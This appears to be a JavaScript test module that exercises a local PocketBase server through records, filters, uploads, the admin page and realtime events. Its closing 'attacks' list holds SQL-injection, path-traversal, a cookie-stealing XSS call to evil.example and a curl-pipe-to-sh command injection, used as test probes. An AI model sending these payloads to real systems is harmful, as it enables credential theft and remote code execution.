// PocketBase: a database with an HTTP API, its administration page, uploads
// and messages to subscribers.
import { execFileSync } from 'node:child_process'
import { join } from 'node:path'
import { settled } from './state.mjs'
import { free, until } from './stage.mjs'
import { go, languages, markdown, pdf, png, python, random, script, shell, sql, tagged, tutorial, zip } from './texts.mjs'

const [email, password] = ['jane@example.org', "It's 1 secret; -- really"]
const version = 'base@v0.36.8'

const fields = [
  { name: 'title', type: 'text', required: true },
  { name: 'text', type: 'editor', maxSize: 1 << 20 },
  { name: 'extra', type: 'json', maxSize: 1 << 20 },
  { name: 'rating', type: 'number' },
  { name: 'files', type: 'file', maxSelect: 9, maxSize: 8 << 20 },
  { name: 'changed', type: 'autodate', onCreate: true, onUpdate: true },
]

const json = { 'Content-Type': 'application/json' }

// api sends JSON as the superuser.
async function api(user, method, path, body) {
  user.token ??= (await (await user.fetch('/api/collections/_superusers/auth-with-password', {
    method: 'POST', headers: json, body: JSON.stringify({ identity: email, password }),
  })).json()).token
  const res = await user.fetch(path, { method, headers: { ...json, Authorization: user.token }, body: body && JSON.stringify(body) })
  return res.status === 204 ? undefined : res.json()
}

async function records(user) {
  await api(user, 'POST', '/api/collections', { name: 'posts', type: 'base', fields, listRule: '', viewRule: '', createRule: "@request.auth.id != ''",
    indexes: ['CREATE INDEX idx_posts_title ON posts (title)', "CREATE INDEX `idx_rated` ON `posts` (`rating`) WHERE rating > 0 AND title != ''"] })
  for (const [code, text] of Object.entries(languages)) {
    await api(user, 'POST', '/api/collections/posts/records', { title: code, text: `<p>${text}</p>`, rating: code.length,
      extra: { tags: ["c'est", '#1', '50%'], nested: { list: [1, 2.5, null, true, { '@type': 'Person', name: "O'Neill" }] } } })
  }
}

const code = (user) => posts(user, { "Jane's notes -- draft": markdown, 'SELECT ... GROUP BY': sql, 'apt-get and curl': shell, 'tracked()': python, 'range over "naïve"': go })
const page = (user) => posts(user, { 'Counting clicks': tutorial, 'The page alone': script })

async function posts(user, texts) {
  for (const [title, text] of Object.entries(texts)) {
    const { id } = await api(user, 'POST', '/api/collections/posts/records', { title, text: `<h2>Example</h2><pre><code>${text.replace(/&/g, '&amp;').replace(/</g, '&lt;')}</code></pre>`, extra: { source: text } })
    await api(user, 'PATCH', `/api/collections/posts/records/${id}`, { rating: 3, 'rating+': 1 })
  }
}

async function search(user) {
  for (const filter of ["title ~ 'note' && rating >= 3", "(title = 'de' || title = 'fr') && rating > 0", "text ~ \"l'été\" || extra.tags:length > 2", "changed > '2026-01-01 00:00:00' && id != ''"]) {
    const query = new URLSearchParams({ filter, sort: '-rating,title', perPage: '50', fields: '*,text:excerpt(200,true)', skipTotal: '1' })
    const { items } = await api(user, 'GET', `/api/collections/posts/records?${query}`)
    if (!Array.isArray(items)) throw new Error(`no items for ${filter}`)
  }
}

async function uploads(user) {
  const form = new FormData()
  form.set('title', 'Überblick & "Anhänge"')
  form.set('text', `<p>${languages.ja}</p>`)
  form.set('extra', JSON.stringify({ by: "O'Brien" }))
  for (const [name, type, content] of [['photo.png', 'image/png', png], ["jane's report (final).pdf", 'application/pdf', pdf],
    ['source.zip', 'application/zip', zip({ 'main.go': go, 'bin/run.sh': shell })], ['noise.bin', 'application/octet-stream', random(300_000)],
    ['tracked.py', 'text/x-python', python], ['dump.sql', 'application/sql', sql]]) {
    form.append('files', new Blob([content], { type }), name)
  }
  const record = await (await user.fetch('/api/collections/posts/records', { method: 'POST', headers: { Authorization: user.token }, body: form })).json()
  for (const name of record.files) await (await user.fetch(`/api/files/posts/${record.id}/${name}`)).arrayBuffer()
}

async function administration(user) {
  const page = await user.page()
  await page.goto('/_/')
  await page.locator('input[type=email]').fill(email)
  await page.locator('input[type=password]').fill(password)
  await page.locator('button[type=submit]').click()
  await page.locator('a.sidebar-list-item', { hasText: 'posts' }).click()
  await page.getByRole('button', { name: 'New record' }).first().click()
  await page.locator('.overlay-panel.active, .overlay-panel:visible').first().waitFor()
  await page.getByLabel('title').fill("From the page: 'quoted' & <b>bold</b>; 1 > 0")
  await page.getByRole('button', { name: 'Create', exact: true }).click()
  await page.getByText('From the page').first().waitFor()
  const box = page.locator('.searchbar .cm-content, .searchbar [contenteditable]').first()
  await box.click()
  await page.keyboard.type("rating > 2 && title ~ 'note'")
  await page.keyboard.press('Enter')
  await page.getByText("Jane's notes").first().waitFor()
}

async function subscription(user) {
  const stop = new AbortController()
  const stream = await user.fetch('/api/realtime', { headers: { Accept: 'text/event-stream' }, signal: stop.signal })
  let heard = ''
  const reading = (async () => { for await (const part of stream.body) heard += Buffer.from(part).toString() })().catch(() => {})
  await until('the first event', () => /"clientId":"[^"]+"/.test(heard))
  const [, clientId] = /"clientId":"([^"]+)"/.exec(heard)
  await api(user, 'POST', '/api/realtime', { clientId, subscriptions: ['posts/*'] })
  await api(user, 'POST', '/api/collections/posts/records', { title: 'live', text: `<p>${languages.emoji}</p>` })
  await until('the event of the new record', () => heard.includes('"title":"live"'))
  stop.abort()
  await reading
}

export default {
  name: 'pocketbase',
  needs: {},
  goPrograms: [`github.com/pocketbase/pocketbase/examples/${version}`],

  async start(stage) {
    const [port, dir, base] = [await free(), join(stage.dir, 'data'), join(stage.programs, version, 'base')]
    execFileSync(base, ['superuser', 'upsert', email, password, '--dir', dir], { stdio: 'pipe' })
    await stage.start(base, ['serve', `--http=127.0.0.1:${port}`, '--dir', dir], { port })
    return { port }
  },

  journeys: [
    { name: 'a collection and records in eight languages', walk: records },
    { name: 'records with code', walk: code, hard: true },
    { name: 'search by expressions', walk: search, hard: true },
    { name: 'uploads', walk: uploads, hard: true },
    { name: 'the administration page', walk: administration },
    { name: 'a subscription', walk: subscription },
    { name: 'a page with a script in a record', walk: page, hard: true, known: tagged },
  ],

  async state(user) {
    const res = await fetch(`http://127.0.0.1:${user.app.port}/api/collections/posts/records?perPage=500`)
    const { items } = await res.json()
    const held = []
    for (const { id, collectionId, changed, files, ...item } of items) {
      const contents = []
      for (const name of files) {
        const file = await fetch(`http://127.0.0.1:${user.app.port}/api/files/posts/${id}/${name}`)
        contents.push([name.replace(/_\w{10}(?=\.)/, ''), Buffer.from(await file.arrayBuffer()).toString('latin1')])
      }
      held.push({ ...item, contents })
    }
    return settled(JSON.stringify(held.sort((a, b) => a.title < b.title ? -1 : 1)))
  },

  attacks: [
    { target: `/api/collections/posts/records?filter=${encodeURIComponent("title='' UNION SELECT password FROM _superusers--")}` },
    { target: `/api/collections/posts/records?sort=${encodeURIComponent("id' OR '1'='1' -- ")}` },
    { target: '/api/files/posts/x/..%2f..%2f..%2f..%2f..%2fetc%2fpasswd' },
    { method: 'POST', target: '/api/collections/posts/records', headers: json, body: JSON.stringify({ title: '"><img src=x onerror=fetch("//evil.example/"+document.cookie)>' }) },
    { method: 'POST', target: '/api/collections/posts/records', headers: json, body: JSON.stringify({ title: '$(curl -s http://203.0.113.7/x.sh|sh)' }) },
  ],
}
